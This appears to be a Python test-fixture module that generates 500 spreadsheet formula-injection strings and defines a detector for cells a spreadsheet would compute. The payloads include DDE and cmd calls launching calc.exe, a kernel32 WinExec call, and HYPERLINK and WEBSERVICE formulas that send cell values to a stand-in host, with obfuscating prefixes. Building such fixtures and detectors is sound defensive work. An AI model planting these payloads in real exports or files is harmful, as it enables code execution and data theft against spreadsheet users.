"""Five hundred texts that a spreadsheet might run, as somebody might type them into a roster."""

import re
from itertools import product

COUNT = 500
_SIGNS = ("=", "+", "-", "@", "＝", "＋", "－", "＠", "=+", "@=", "-=", "\t=", "\r=", "\n=")
_BEFORE = ("", "'", '"', " ", "\u3000", "\xa0", "\ufeff", "\u200b", "\u202e", "\t", "\r", ";", ",=", "'=")
_BODIES = (
    "1+1",
    "cmd|' /C calc'!A0",
    "MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''",
    'DDE("cmd";"/C calc";"x")',
    'HYPERLINK("http://portal.invalid/?n="&A1,"点此查看")',
    'WEBSERVICE("http://portal.invalid/"&B2)',
    'IMPORTXML("http://portal.invalid/","//a")',
    'IMAGE("http://portal.invalid/a.png")',
    "'file:///C:/x.xlsx'#$Sheet1.A1",
    "SUM(A1:A9)",
    "{1+1}",
    "张三",
    'CALL("kernel32","WinExec","JC","calc",0)',
)
_LINKS = (
    "http://portal.invalid/",
    "internal:Sheet1!A1",
    "file://portal.invalid/x",
    "mailto:a@portal.invalid",
)
DANGEROUS = "=+-@＝＋－＠\t\r"
"""First characters that make a spreadsheet compute a text file's cell."""
_BLANK = re.compile("^[\\s\"';,\ufeff\u200b-\u200f\u202a-\u202e]+")


def payloads() -> list[str]:
    """The five hundred, spread evenly over every sign, body and what may stand before it."""
    texts = (f"{before}{sign}{body}" for sign, body, before in product(_SIGNS, _BODIES, _BEFORE))
    every = list(dict.fromkeys(texts))
    step = len(every) / (COUNT - len(_LINKS))
    chosen = [every[int(at * step)] for at in range(COUNT - len(_LINKS))]
    return [*chosen, *_LINKS]


def is_live_text(cell: str) -> bool:
    """Whether a spreadsheet that opens a text file might compute this cell."""
    return cell[:1] in tuple(DANGEROUS) or _BLANK.sub("", cell)[:1] in tuple(DANGEROUS) and cell[:1] != "'"
